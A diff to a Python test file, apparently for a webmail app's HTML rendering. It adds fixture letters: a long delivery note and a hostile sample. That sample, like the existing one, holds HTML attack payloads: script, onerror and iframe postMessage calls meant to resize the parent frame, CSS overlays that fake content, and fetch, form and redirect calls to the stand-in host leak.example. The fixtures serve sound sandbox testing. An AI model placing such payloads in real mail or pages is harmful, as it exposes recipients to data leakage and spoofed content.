@@ -42,6 +42,20 @@ HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://leak.e
 <script src="http://leak.example/script"></script><script>fetch('http://leak.example/fetch')</script>
 <a href="javascript:top.document.title='pwned'">Klick</a></body></html>"""
 
+ROWS = [f"Posten {n}" for n in range(1, 61)]
+# A mail longer than any window, its rows wide enough to break on a phone, and the last one folded away.
+WARE = "Bernstein, geschliffen, in einzelnen Beuteln, mit Zertifikat und einer Rechnung für jeden der drei Standorte"
+LONG = f"""<h2>Lieferschein</h2><table style="width:100%" border="1">{
+    "".join(f"<tr><td>{row}</td><td>{WARE}</td></tr>" for row in ROWS[:-1])
+}</table><details><summary>Rest</summary>{ROWS[-1]}</details>"""
+# What mail may try with a frame that grows and a page for paper.
+GREEDY = """<div style="height:150vh!important">Kopf</div><div style="height:10px !important">eng<br>eng<br>eng</div>
+<script>parent.postMessage(150000, "*")</script><svg onload="parent.postMessage(150000, '*')"></svg>
+<img src=x onerror="parent.postMessage(150000, '*')"><iframe srcdoc="<script>top.postMessage(150000,'*')</script>">
+</iframe><p style="margin-top:-900px;position:fixed;top:0;background:#fff;height:500px">gefälscht</p>
+<span style="padding:900px;background:#fff">darüber</span><form action="http://leak.example/form">
+<button formaction="http://leak.example/button" id="content" name="mail">Senden</button></form>"""
+
 
 @dataclass
 class Served:
@@ -123,6 +137,9 @@ def _peopled(_empty: Path, tmp_path_factory: pytest.TempPathFactory, django_db_b
             ),
             letter(3, subject="Falle", fields=["Content-Type: text/html; charset=utf-8"], text=HOSTILE),
             *(letter(n, subject=f"Lieferung {n}") for n in range(10, 16)),
+            letter(20, subject="Lang", fields=["Content-Type: text/html; charset=utf-8"], text=LONG),
+            letter(21, subject="Gierig", fields=["Content-Type: text/html; charset=utf-8"], text=GREEDY),
+            letter(22, subject="Schlicht", text="\r\n".join(ROWS)),
         )
         (folder / "token").write_text(make_setup_link())
         opened.leave()
